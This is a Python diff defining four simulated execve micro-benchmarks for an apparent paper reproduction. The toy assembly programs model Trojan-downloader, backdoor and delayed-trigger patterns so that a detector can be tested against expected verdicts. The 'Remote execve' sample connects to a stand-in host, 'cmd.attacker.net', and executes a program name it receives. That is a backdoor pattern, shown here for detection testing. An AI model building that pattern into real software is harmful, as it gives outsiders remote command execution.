@@ -1,0 +1,145 @@
+"""Execution-flow micro-benchmarks (paper Table 4).
+
+Four programs, all calling execve with process names of different origin:
+
+* ``execve_user``   — name from argv (user input)     -> no warning
+* ``execve_hardcode`` — name hardcoded in the binary  -> Low
+* ``execve_remote``  — name received over a socket    -> High
+* ``execve_infrequent`` — hardcoded, after a long sleep in rarely-run
+  code                                                -> Medium
+"""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING
+
+if TYPE_CHECKING:  # pragma: no cover - typing only
+    from repro.core.hth import HTH
+
+from typing import List
+
+from repro.core.report import Verdict
+from repro.kernel.network import ConversationPeer
+from repro.programs.base import Workload
+
+ATTACKER_HOST = "cmd.attacker.net"
+ATTACKER_PORT = 5150
+
+_USER_SOURCE = r"""
+; execve the program named by argv[1] - trusted behavior
+main:
+    mov ebp, esp
+    load eax, [ebp+2]      ; argv array
+    load ebx, [eax+1]      ; argv[1]
+    mov ecx, 0
+    mov edx, 0
+    call execve
+    mov eax, 0
+    ret
+"""
+
+_HARDCODE_SOURCE = r"""
+; execve a hardcoded program name - Trojan downloader pattern
+main:
+    mov ebx, prog
+    mov ecx, 0
+    mov edx, 0
+    call execve
+    mov eax, 0
+    ret
+.data
+prog: .asciz "/bin/ls"
+"""
+
+_REMOTE_SOURCE = r"""
+; execve a program whose name arrives over a socket - backdoor pattern
+main:
+    mov ebx, host
+    call gethostbyname
+    mov ecx, eax
+    call socket
+    mov ebx, eax
+    mov edx, 5150
+    call connect_addr
+    mov ecx, namebuf
+    mov edx, 63
+    call read_line
+    mov ebx, namebuf
+    mov ecx, 0
+    mov edx, 0
+    call execve
+    mov eax, 0
+    ret
+.data
+host: .asciz "cmd.attacker.net"
+namebuf: .space 64
+"""
+
+_INFREQUENT_SOURCE = r"""
+; like the hardcoded case, but the execve sits in rarely-executed code
+; reached long after startup (the CIH/Chernobyl trigger-date pattern)
+main:
+    mov edi, 0
+warmup:                    ; hot loop: these blocks run many times
+    add edi, 1
+    cmp edi, 40
+    jl warmup
+    mov ebx, 6000
+    call sleep             ; ... time passes ...
+trigger:                   ; cold block: runs exactly once
+    mov ebx, prog
+    mov ecx, 0
+    mov edx, 0
+    call execve
+    mov eax, 0
+    ret
+.data
+prog: .asciz "/bin/ls"
+"""
+
+
+def _remote_setup(hth: HTH) -> None:
+    hth.network.add_peer(
+        ATTACKER_HOST,
+        ATTACKER_PORT,
+        lambda: ConversationPeer("attacker", opening=b"/bin/date\n"),
+    )
+
+
+def table4_workloads() -> List[Workload]:
+    return [
+        Workload(
+            name="User input",
+            program_path="/bin/execve_user",
+            source=_USER_SOURCE,
+            description="execve of a program named on the command line",
+            argv=["/bin/execve_user", "/bin/ls"],
+            expected_verdict=Verdict.BENIGN,
+        ),
+        Workload(
+            name="Hardcode",
+            program_path="/bin/execve_hardcode",
+            source=_HARDCODE_SOURCE,
+            description="execve of a hardcoded program name",
+            expected_verdict=Verdict.LOW,
+            expected_rules=("check_execve",),
+        ),
+        Workload(
+            name="Remote execve",
+            program_path="/bin/execve_remote",
+            source=_REMOTE_SOURCE,
+            description="execve of a program name received from a socket",
+            setup=_remote_setup,
+            expected_verdict=Verdict.HIGH,
+            expected_rules=("check_execve",),
+        ),
+        Workload(
+            name="Infrequent execve",
+            program_path="/bin/execve_infrequent",
+            source=_INFREQUENT_SOURCE,
+            description="hardcoded execve in rarely-executed code, late in "
+                        "the run",
+            expected_verdict=Verdict.MEDIUM,
+            expected_rules=("check_execve",),
+        ),
+    ]
